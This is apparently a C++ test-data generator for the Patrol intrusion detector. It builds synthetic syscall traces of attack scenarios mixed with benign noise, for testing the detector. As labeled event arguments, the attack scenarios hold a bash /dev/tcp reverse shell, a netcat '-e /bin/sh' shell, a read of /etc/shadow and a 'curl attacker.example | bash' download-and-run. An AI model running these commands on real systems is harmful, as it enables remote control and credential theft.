// SPDX-License-Identifier: Apache-2.0
/*
Copyright (C) 2025 The Patrol Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

#include "patrol/scenario.hpp"

#include <map>

namespace patrol {

namespace {

// Well-known cgroup ids used across scenarios.
constexpr std::uint64_t kHostCgroup = 0;
constexpr std::uint64_t kWeb1 = 1001;
constexpr std::uint64_t kWeb2 = 1002;
constexpr std::uint64_t kDb1 = 1003;
constexpr std::uint64_t kJobRunner = 1004;
constexpr std::uint64_t kStatic9 = 1005;

struct workload {
    std::uint32_t pid;
    std::uint32_t uid;
    std::uint64_t cgroup;
    std::string comm;
    int flavor; // 0 host daemon, 1 web, 2 db, 3 batch, 4 static file server
};

class builder {
public:
    builder(std::string scenario, std::uint64_t seed) : m_rng(seed) {
        m_trace.scenario = std::move(scenario);
    }

    splitmix64& rng() { return m_rng; }

    void container(std::uint64_t cgroup, std::string id, std::string image,
                   std::string pod) {
        m_trace.registry.containers.emplace_back(
            cgroup, container_context{std::move(id), std::move(image),
                                      std::move(pod)});
    }

    void process(std::uint32_t pid, std::uint32_t ppid, std::string comm,
                 std::string exe, std::uint32_t uid) {
        m_trace.registry.processes.push_back(
            {pid, ppid, std::move(comm), std::move(exe), uid});
    }

    std::uint64_t emit(std::string syscall, std::uint32_t pid, std::uint32_t uid,
                       std::uint64_t cgroup, std::string comm,
                       std::vector<syscall_arg> args, bool labeled = false) {
        raw_event ev;
        ev.seq = m_trace.events.size();
        m_clock += 2'000 + m_rng.below(48'000);
        ev.timestamp_ns = m_clock;
        ev.syscall = std::move(syscall);
        ev.args = std::move(args);
        ev.pid = pid;
        ev.tid = pid;
        ev.uid = uid;
        ev.cgroup_id = cgroup;
        ev.comm = truncate_comm(comm);
        if (labeled) {
            m_trace.labels.push_back(ev.seq);
        }
        ++m_per_cgroup[cgroup];
        m_trace.events.push_back(std::move(ev));
        return m_trace.events.back().seq;
    }

    std::uint64_t count_for(std::uint64_t cgroup) const {
        auto it = m_per_cgroup.find(cgroup);
        return it == m_per_cgroup.end() ? 0 : it->second;
    }

    std::size_t emitted() const { return m_trace.events.size(); }

    trace_data take() { return std::move(m_trace); }

private:
    trace_data m_trace;
    splitmix64 m_rng;
    std::uint64_t m_clock = 1'700'000'000'000'000'000ULL;
    std::map<std::uint64_t, std::uint64_t> m_per_cgroup;
};

syscall_arg argv(std::vector<std::string> tokens) {
    return syscall_arg::make_list(std::move(tokens));
}

// Benign motifs. Every execve token below stays clear of the substrings the
// shipped detection rules key on, so background load never trips a rule.

void host_noise(builder& b, const workload& w) {
    switch (b.rng().below(7)) {
    case 0:
        b.emit("execve", w.pid, w.uid, w.cgroup, w.comm, {argv({"cron"})});
        b.emit("open", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_path("/var/log/syslog")});
        break;
    case 1:
        b.emit("execve", w.pid, w.uid, w.cgroup, w.comm,
               {argv({"logrotate", "/etc/logrotate.conf"})});
        b.emit("open", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_path("/var/log/app.log")});
        b.emit("open", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_path("/var/log/app.log.1")});
        break;
    case 2:
        b.emit("open", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_path("/proc/stat")});
        b.emit("open", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_path("/proc/meminfo")});
        break;
    case 3:
        b.emit("execve", w.pid, w.uid, w.cgroup, w.comm,
               {argv({"find", "/var/tmp", "-mtime", "+7"})});
        b.emit("openat", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_fd(-100), syscall_arg::make_path("/var/tmp")});
        break;
    case 4:
        b.emit("execve", w.pid, w.uid, w.cgroup, w.comm,
               {argv({"du", "-s", "/var/lib/app"})});
        b.emit("openat", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_fd(-100),
                syscall_arg::make_path("/var/lib/app")});
        break;
    case 5:
        b.emit("other", w.pid, w.uid, w.cgroup, w.comm, {});
        break;
    default:
        b.emit("execve", w.pid, w.uid, w.cgroup, w.comm, {argv({"date"})});
        b.emit("execve", w.pid, w.uid, w.cgroup, w.comm, {argv({"id"})});
        break;
    }
}

void web_noise(builder& b, const workload& w) {
    switch (b.rng().below(6)) {
    case 0:
        b.emit("socket", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_int(2)});
        b.emit("connect", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_fd(7)});
        b.emit("openat", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_fd(-100),
                syscall_arg::make_path("/var/www/html/index.html")});
        break;
    case 1:
        b.emit("openat", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_fd(-100),
                syscall_arg::make_path("/var/www/html/assets/app.css")});
        b.emit("openat", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_fd(-100),
                syscall_arg::make_path("/etc/hosts")});
        break;
    case 2:
        b.emit("open", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_path("/etc/ld.so.cache")});
        break;
    case 3:
        b.emit("clone", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_flags(0x10000)});
        b.emit("execve", w.pid, w.uid, w.cgroup, w.comm,
               {argv({"curl", "-s", "http://127.0.0.1:9100/metrics"})});
        break;
    case 4:
        b.emit("other", w.pid, w.uid, w.cgroup, w.comm, {});
        break;
    default:
        b.emit("openat", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_fd(-100),
                syscall_arg::make_path("/var/cache/app/session.dat")});
        break;
    }
}

void db_noise(builder& b, const workload& w) {
    switch (b.rng().below(3)) {
    case 0:
        b.emit("open", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_path("/var/lib/pgdata/base/16384/2619")});
        b.emit("open", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_path(
                   "/var/lib/pgdata/pg_wal/000000010000000000000001")});
        break;
    case 1:
        b.emit("openat", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_fd(-100),
                syscall_arg::make_path("/var/lib/pgdata/global/pg_control")});
        b.emit("other", w.pid, w.uid, w.cgroup, w.comm, {});
        break;
    default:
        b.emit("socket", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_int(1)});
        b.emit("connect", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_fd(9)});
        break;
    }
}

void batch_noise(builder& b, const workload& w) {
    switch (b.rng().below(5)) {
    case 0:
        b.emit("execve", w.pid, w.uid, w.cgroup, w.comm,
               {argv({"tar", "-czf", "/var/backups/site.tar.gz",
                      "/var/www/data"})});
        b.emit("open", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_path("/var/backups/site.tar.gz")});
        break;
    case 1:
        b.emit("execve", w.pid, w.uid, w.cgroup, w.comm,
               {argv({"grep", "-r", "error", "/var/log/app"})});
        b.emit("open", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_path("/var/log/app/current.log")});
        break;
    case 2:
        b.emit("clone", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_flags(0x10000)});
        b.emit("execve", w.pid, w.uid, w.cgroup, w.comm,
               {argv({"top", "-b", "-n", "1"})});
        break;
    case 3:
        b.emit("execve", w.pid, w.uid, w.cgroup, w.comm,
               {argv({"cat", "/var/run/app.pid"})});
        b.emit("open", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_path("/var/run/app.pid")});
        break;
    default:
        b.emit("execve", w.pid, w.uid, w.cgroup, w.comm, {argv({"env"})});
        b.emit("other", w.pid, w.uid, w.cgroup, w.comm, {});
        break;
    }
}

// Static file server: serves without ever exec-ing, so its learned profile
// contains no execve at all. Every syscall here recurs constantly, keeping
// per-syscall frequencies far above the rarity threshold.
void static_noise(builder& b, const workload& w) {
    switch (b.rng().below(4)) {
    case 0:
        b.emit("openat", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_fd(-100),
                syscall_arg::make_path("/srv/static/index.html")});
        b.emit("openat", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_fd(-100),
                syscall_arg::make_path("/srv/static/logo.svg")});
        break;
    case 1:
        b.emit("socket", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_int(2)});
        b.emit("connect", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_fd(5)});
        break;
    case 2:
        b.emit("open", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_path("/proc/net/tcp")});
        break;
    default:
        b.emit("clone", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_flags(0x10000)});
        b.emit("open", w.pid, w.uid, w.cgroup, w.comm,
               {syscall_arg::make_path("/srv/static/news/latest.json")});
        break;
    }
}

void noise_step(builder& b, const workload& w) {
    switch (w.flavor) {
    case 0: host_noise(b, w); break;
    case 1: web_noise(b, w); break;
    case 2: db_noise(b, w); break;
    case 3: batch_noise(b, w); break;
    default: static_noise(b, w); break;
    }
}

// Emits background activity until at least n more events exist (motifs emit
// in small groups, so the total may overshoot by a couple of events).
void pump_noise(builder& b, const std::vector<workload>& pool, std::size_t n) {
    std::size_t start = b.emitted();
    while (b.emitted() - start < n) {
        noise_step(b, pool[b.rng().below(pool.size())]);
    }
}

const workload kCron{25, 0, kHostCgroup, "crond", 0};
const workload kSysmon{26, 0, kHostCgroup, "sysmond", 0};
const workload kWebWorker{4200, 33, kWeb1, "nginx", 1};
const workload kWeb2Worker{4700, 33, kWeb2, "nginx", 1};
const workload kDbWorker{300, 70, kDb1, "postgres", 2};
const workload kBatchRunner{5000, 0, kJobRunner, "runner", 3};
const workload kStaticServer{7300, 0, kStatic9, "staticfsd", 4};

void register_workload(builder& b, const workload& w, std::uint32_t ppid,
                       std::string exe) {
    b.process(w.pid, ppid, w.comm, std::move(exe), w.uid);
}

void add_web1(builder& b) { b.container(kWeb1, "web-1", "nginx:1.25", "web"); }
void add_web2(builder& b) { b.container(kWeb2, "web-2", "nginx:1.25", "web"); }
void add_db1(builder& b) { b.container(kDb1, "db-1", "postgres:16", "db"); }
void add_jobrunner(builder& b) {
    b.container(kJobRunner, "job-runner-1", "busybox:1.36", "jobs");
}
void add_static9(builder& b) {
    b.container(kStatic9, "static-9", "staticfs:2.1", "edge");
}

trace_data build_reverse_shell(std::uint64_t seed) {
    builder b("reverse-shell", seed);
    add_web1(b);
    add_db1(b);
    b.process(120, 1, "nginx", "/usr/sbin/nginx", 0);
    register_workload(b, kWebWorker, 120, "/usr/sbin/nginx");
    register_workload(b, kDbWorker, 1, "/usr/lib/postgresql/postgres");
    register_workload(b, kCron, 1, "/usr/sbin/crond");
    b.process(4201, 4200, "bash", "/usr/bin/bash", 33);
    b.process(4203, 4200, "nc", "/usr/bin/nc", 33);

    std::vector<workload> pool{kCron, kWebWorker, kDbWorker};
    pump_noise(b, pool, 60);

    // Compromised worker spawns an interactive shell wired to the attacker.
    b.emit("clone", 4200, 33, kWeb1, "nginx",
           {syscall_arg::make_flags(0x11)}, true);
    b.emit("execve", 4201, 33, kWeb1, "bash",
           {argv({"bash", "-c", "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"})},
           true);

    pump_noise(b, pool, 40);

    // Second attempt via netcat after the first exec was denied.
    b.emit("clone", 4200, 33, kWeb1, "nginx",
           {syscall_arg::make_flags(0x11)}, true);
    b.emit("execve", 4203, 33, kWeb1, "nc",
           {argv({"nc", "-e", "/bin/sh", "10.0.0.5", "4444"})}, true);

    pump_noise(b, pool, 50);
    return b.take();
}

trace_data build_container_escape(std::uint64_t seed) {
    builder b("container-escape", seed);
    add_jobrunner(b);
    add_web1(b);
    register_workload(b, kBatchRunner, 1, "/usr/bin/runner");
    register_workload(b, kWebWorker, 1, "/usr/sbin/nginx");
    register_workload(b, kCron, 1, "/usr/sbin/crond");
    b.process(5100, 5000, "exploit", "/tmp/exploit_fsconfig", 0);

    std::vector<workload> pool{kBatchRunner, kWebWorker, kCron};
    pump_noise(b, pool, 45);

    // Filesystem-context exploit: staged binary, then an fsconfig value
    // blown up with filler to overflow the legacy mount parameter buffer.
    b.emit("openat", 5100, 0, kJobRunner, "exploit",
           {syscall_arg::make_fd(-100),
            syscall_arg::make_path("/tmp/exploit_fsconfig")},
           true);
    b.emit("execve", 5100, 0, kJobRunner, "exploit",
           {argv({"./exploit_fsconfig"})}, true);
    b.emit("fsconfig", 5100, 0, kJobRunner, "exploit",
           {syscall_arg::make_fd(3),
            syscall_arg::make_opaque(std::string(600, 'A'))},
           true);
    // The process would have continued; these arrive after the kill verdict
    // and exercise suppression downstream.
    b.emit("open", 5100, 0, kJobRunner, "exploit",
           {syscall_arg::make_path("/proc/self/status")}, true);
    b.emit("connect", 5100, 0, kJobRunner, "exploit",
           {syscall_arg::make_fd(4)}, true);
    b.emit("mount", 5100, 0, kJobRunner, "exploit",
           {syscall_arg::make_path("/dev/sda1")}, true);

    pump_noise(b, pool, 55);
    return b.take();
}

trace_data build_sensitive_file_read(std::uint64_t seed) {
    builder b("sensitive-file-read", seed);
    add_web2(b);
    add_db1(b);
    b.process(121, 1, "nginx", "/usr/sbin/nginx", 0);
    register_workload(b, kWeb2Worker, 121, "/usr/sbin/nginx");
    register_workload(b, kDbWorker, 1, "/usr/lib/postgresql/postgres");
    register_workload(b, kSysmon, 1, "/usr/sbin/sysmond");
    b.process(4701, 4700, "cat", "/usr/bin/cat", 33);

    std::vector<workload> pool{kWeb2Worker, kDbWorker, kSysmon};
    pump_noise(b, pool, 55);

    b.emit("clone", 4700, 33, kWeb2, "nginx",
           {syscall_arg::make_flags(0x11)}, true);
    b.emit("execve", 4701, 33, kWeb2, "cat",
           {argv({"cat", "/etc/shadow"})}, true);
    b.emit("open", 4701, 33, kWeb2, "cat",
           {syscall_arg::make_path("/etc/shadow")}, true);

    pump_noise(b, pool, 60);
    return b.take();
}

trace_data build_ptrace_escalation(std::uint64_t seed) {
    builder b("ptrace-escalation", seed);
    add_web1(b);
    register_workload(b, kWebWorker, 1, "/usr/sbin/nginx");
    register_workload(b, kCron, 1, "/usr/sbin/crond");
    b.process(890, 1, "agentd", "/usr/sbin/agentd", 0);
    b.process(6000, 1, "term", "/usr/bin/term", 1000);
    b.process(6100, 6000, "strace", "/usr/bin/strace", 1000);

    std::vector<workload> pool{kCron, kWebWorker};
    pump_noise(b, pool, 50);

    // Unprivileged user attaches to a root daemon to hijack it.
    b.emit("execve", 6100, 1000, kHostCgroup, "strace",
           {argv({"strace", "-p", "890"})}, true);
    b.emit("ptrace", 6100, 1000, kHostCgroup, "strace",
           {syscall_arg::make_int(890), syscall_arg::make_flags(16)}, true);

    pump_noise(b, pool, 60);
    return b.take();
}

trace_data build_benign_admin(std::uint64_t seed) {
    builder b("benign-admin", seed);
    add_web1(b);
    register_workload(b, kWebWorker, 1, "/usr/sbin/nginx");
    register_workload(b, kCron, 1, "/usr/sbin/crond");
    register_workload(b, kSysmon, 1, "/usr/sbin/sysmond");
    b.process(600, 1, "admintool", "/usr/sbin/admintool", 0);
    b.process(601, 600, "worker", "/usr/libexec/admintool-worker", 33);

    std::vector<workload> pool{kCron, kSysmon, kWebWorker};
    pump_noise(b, pool, 60);

    // Root maintenance tool inspects the worker it just spawned and
    // de-privileged. Nothing here is an attack, so nothing is labeled.
    b.emit("execve", 600, 0, kHostCgroup, "admintool",
           {argv({"admintool", "--inspect-child"})});
    b.emit("clone", 600, 0, kHostCgroup, "admintool",
           {syscall_arg::make_flags(0x11)});
    b.emit("setuid", 601, 0, kHostCgroup, "worker",
           {syscall_arg::make_int(33)});
    b.emit("open", 601, 33, kHostCgroup, "worker",
           {syscall_arg::make_path("/var/lib/admintool/tasks.db")});
    b.emit("ptrace", 600, 0, kHostCgroup, "admintool",
           {syscall_arg::make_int(601), syscall_arg::make_flags(16)});
    b.emit("open", 600, 0, kHostCgroup, "admintool",
           {syscall_arg::make_path("/var/log/admintool.log")});

    pump_noise(b, pool, 70);
    return b.take();
}

trace_data build_fileless_exec(std::uint64_t seed) {
    builder b("fileless-exec", seed);
    add_static9(b);
    add_web1(b);
    register_workload(b, kStaticServer, 1, "/usr/bin/staticfsd");
    register_workload(b, kWebWorker, 1, "/usr/sbin/nginx");
    register_workload(b, kCron, 1, "/usr/sbin/crond");

    // The profile for static-9 must finish its learning window before the
    // intrusion, so this scenario front-loads a long quiet stretch.
    std::vector<workload> mixed{kStaticServer, kWebWorker, kCron};
    while (b.count_for(kStatic9) < 1010) {
        noise_step(b, mixed[b.rng().below(16) < 14 ? 0 : 1 + b.rng().below(2)]);
    }

    // In-process compromise: payload pulled over the wire and executed
    // straight from a memory fd. No rule keys on these tokens; only the
    // behavioral profile notices the first-ever execve.
    b.emit("socket", 7300, 0, kStatic9, "staticfsd",
           {syscall_arg::make_int(2)}, true);
    b.emit("connect", 7300, 0, kStatic9, "staticfsd",
           {syscall_arg::make_fd(4)}, true);
    b.emit("execve", 7300, 0, kStatic9, "staticfsd",
           {argv({"/proc/self/fd/4", "--serve"})}, true);

    pump_noise(b, {kStaticServer}, 30);
    return b.take();
}

trace_data build_drive_by_download(std::uint64_t seed) {
    builder b("drive-by-download", seed);
    add_web1(b);
    add_db1(b);
    b.process(120, 1, "nginx", "/usr/sbin/nginx", 0);
    b.process(4400, 120, "nginx", "/usr/sbin/nginx", 33);
    b.process(4401, 4400, "bash", "/usr/bin/bash", 33);
    register_workload(b, kDbWorker, 1, "/usr/lib/postgresql/postgres");
    register_workload(b, kSysmon, 1, "/usr/sbin/sysmond");

    workload web{4400, 33, kWeb1, "nginx", 1};
    std::vector<workload> pool{web, kDbWorker, kSysmon};
    pump_noise(b, pool, 50);

    b.emit("socket", 4400, 33, kWeb1, "nginx",
           {syscall_arg::make_int(2)}, true);
    b.emit("connect", 4400, 33, kWeb1, "nginx",
           {syscall_arg::make_fd(7)}, true);
    b.emit("clone", 4400, 33, kWeb1, "nginx",
           {syscall_arg::make_flags(0x11)}, true);
    b.emit("execve", 4401, 33, kWeb1, "bash",
           {argv({"bash", "-c", "curl http://attacker.example/file.sh | bash"})},
           true);

    pump_noise(b, pool, 55);
    return b.take();
}

trace_data build_benign_background(std::uint64_t seed) {
    builder b("benign-background", seed);
    add_web1(b);
    add_db1(b);
    b.process(120, 1, "nginx", "/usr/sbin/nginx", 0);
    register_workload(b, kWebWorker, 120, "/usr/sbin/nginx");
    register_workload(b, kDbWorker, 1, "/usr/lib/postgresql/postgres");
    register_workload(b, kCron, 1, "/usr/sbin/crond");
    register_workload(b, kSysmon, 1, "/usr/sbin/sysmond");

    pump_noise(b, {kCron, kSysmon, kWebWorker, kDbWorker}, 400);
    return b.take();
}

} // namespace

const std::vector<scenario_kind>& all_scenarios() {
    static const std::vector<scenario_kind> kinds = {
        scenario_kind::reverse_shell,       scenario_kind::container_escape,
        scenario_kind::sensitive_file_read, scenario_kind::ptrace_escalation,
        scenario_kind::benign_admin,        scenario_kind::fileless_exec,
        scenario_kind::drive_by_download,   scenario_kind::benign_background,
    };
    return kinds;
}

std::string to_string(scenario_kind kind) {
    switch (kind) {
    case scenario_kind::reverse_shell: return "reverse-shell";
    case scenario_kind::container_escape: return "container-escape";
    case scenario_kind::sensitive_file_read: return "sensitive-file-read";
    case scenario_kind::ptrace_escalation: return "ptrace-escalation";
    case scenario_kind::benign_admin: return "benign-admin";
    case scenario_kind::fileless_exec: return "fileless-exec";
    case scenario_kind::drive_by_download: return "drive-by-download";
    case scenario_kind::benign_background: return "benign-background";
    }
    return "benign-background";
}

std::optional<scenario_kind> scenario_from(const std::string& name) {
    for (scenario_kind kind : all_scenarios()) {
        if (to_string(kind) == name) return kind;
    }
    return std::nullopt;
}

trace_data generate_scenario(scenario_kind kind, std::uint64_t seed) {
    // Mix the kind into the seed so scenarios built from one base seed do
    // not share a noise stream.
    std::uint64_t mixed =
        seed ^ (0x9e3779b97f4a7c15ULL * (static_cast<std::uint64_t>(kind) + 1));
    switch (kind) {
    case scenario_kind::reverse_shell: return build_reverse_shell(mixed);
    case scenario_kind::container_escape: return build_container_escape(mixed);
    case scenario_kind::sensitive_file_read:
        return build_sensitive_file_read(mixed);
    case scenario_kind::ptrace_escalation: return build_ptrace_escalation(mixed);
    case scenario_kind::benign_admin: return build_benign_admin(mixed);
    case scenario_kind::fileless_exec: return build_fileless_exec(mixed);
    case scenario_kind::drive_by_download: return build_drive_by_download(mixed);
    case scenario_kind::benign_background:
        return build_benign_background(mixed);
    }
    return build_benign_background(mixed);
}

trace_data generate_bench_trace(std::size_t events, std::uint64_t seed) {
    builder b("bench", seed);
    add_web1(b);
    add_web2(b);
    add_db1(b);
    add_jobrunner(b);
    b.process(120, 1, "nginx", "/usr/sbin/nginx", 0);
    b.process(121, 1, "nginx", "/usr/sbin/nginx", 0);
    register_workload(b, kWebWorker, 120, "/usr/sbin/nginx");
    register_workload(b, kWeb2Worker, 121, "/usr/sbin/nginx");
    register_workload(b, kDbWorker, 1, "/usr/lib/postgresql/postgres");
    register_workload(b, kBatchRunner, 1, "/usr/bin/runner");
    register_workload(b, kCron, 1, "/usr/sbin/crond");

    pump_noise(b, {kCron, kWebWorker, kWeb2Worker, kDbWorker, kBatchRunner},
               events);
    return b.take();
}

} // namespace patrol
